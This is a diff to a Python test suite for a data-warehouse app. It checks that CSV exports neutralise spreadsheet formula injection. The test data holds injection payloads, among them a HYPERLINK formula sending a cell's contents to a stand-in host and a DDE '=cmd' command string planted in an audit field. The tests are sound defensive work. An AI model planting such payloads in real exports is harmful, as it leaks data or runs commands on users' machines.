@@ -19,7 +19,6 @@ from streamlit.testing.v1 import AppTest
 from core import spreadsheet, warehouse
 from core.settings import REPO_ROOT
 from etl import audit
-from etl.loader import load_files
 from tests.conftest import PRESTAZIONI_HEADER, demo_warehouse_env, open_page, prestazione, write_csv
 
 FORMULAS = ['=HYPERLINK("http://x.example/?d="&A1,"Clic")', "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=2+2"]
@@ -75,8 +74,8 @@ def test_every_csv_writer_goes_through_core_spreadsheet():
 # --- every writer, on a warehouse holding hostile text -------------------------------------------------
 
 
-def _hostile(tmp: Path) -> None:
-    """Sub-ambito codes and names, rejected values and an audit entry that a spreadsheet would run."""
+def _hostile_files(tmp: Path) -> list[Path]:
+    """Sub-ambito codes and names and rejected values that a spreadsheet would run."""
     comuni = pl.read_csv(REPO_ROOT / "data/ambito/sub_ambiti.csv", infer_schema=False)
     codes = {c: FORMULAS[i % len(FORMULAS)].strip() + c for i, c in enumerate(sorted(comuni["sub_ambito"].unique()))}
     sub = comuni.with_columns(
@@ -87,17 +86,33 @@ def _hostile(tmp: Path) -> None:
     sub.write_csv(tmp / "sub_ambiti_ostili.csv")
     rows = [prestazione(f"f{i}", ore=f, comune=f, esito=f) for i, f in enumerate(FORMULAS)]
     write_csv(tmp / "prestazioni_ostili.csv", PRESTAZIONI_HEADER, rows)
-    db = tmp / "warehouse.duckdb"
-    results = load_files([tmp / "sub_ambiti_ostili.csv", tmp / "prestazioni_ostili.csv"], db=db)
-    assert [r.status for r in results] == ["loaded", "loaded"], [r.error for r in results]
-    assert results[1].rows_rejected == len(FORMULAS)
-    audit.record("esportazione", "m.rossi", "ufficio_di_piano", "=cmd|' /C calc'!A0", "ok", "-1+cmd", db=db)
+    return [tmp / "sub_ambiti_ostili.csv", tmp / "prestazioni_ostili.csv"]
+
+
+def _hostile_audit(tmp: Path) -> None:
+    audit.record("esportazione", "m.rossi", "ufficio_di_piano", "=cmd|' /C calc'!A0", "ok", "-1+cmd",
+                 db=tmp / "warehouse.duckdb")  # fmt: skip
 
 
 @pytest.fixture(scope="module")
 def hostile_db(tmp_path_factory):
-    with demo_warehouse_env(tmp_path_factory.mktemp("ostile"), prepare=_hostile) as db:
-        yield db
+    """The demo warehouse with hostile files loaded by its own builder (a demo takes no other load)."""
+    import demo.build as build
+
+    original = build.generate_demo_files
+
+    def with_hostile(folder: Path, **kwargs) -> list[Path]:
+        return [*original(folder, **kwargs), *_hostile_files(folder)]
+
+    patch = pytest.MonkeyPatch()
+    patch.setattr(build, "generate_demo_files", with_hostile)
+    try:
+        with demo_warehouse_env(tmp_path_factory.mktemp("ostile"), prepare=_hostile_audit) as db:
+            with warehouse.reader(db) as con:  # the hostile rows were read and rejected, not lost
+                assert warehouse.scalar(con, "SELECT count(*) FROM scarti WHERE file = 'prestazioni_ostili.csv'")
+            yield db
+    finally:
+        patch.undo()
 
 
 def _run(module: str, *args) -> subprocess.CompletedProcess:
@@ -123,14 +138,14 @@ def test_cli_indicators_csv(hostile_db, tmp_path):
 def _captured_downloads(monkeypatch, page: str, **query) -> dict[str, object]:
     """Run a page; return {file name: data} of its download buttons (the page's own code makes the data,
     on click for a callable: `_data`)."""
-    from ui import common
+    from ui import downloads
 
     captured: dict[str, object] = {}
 
     def capture(who, label, data, file_name, mime, what, **kwargs):
         captured[file_name] = data
 
-    monkeypatch.setattr(common, "download_button", capture)
+    monkeypatch.setattr(downloads, "download_button", capture)
     at = AppTest.from_file(str(REPO_ROOT / "app.py"), default_timeout=120)
     open_page(at, page, **query)
     return captured
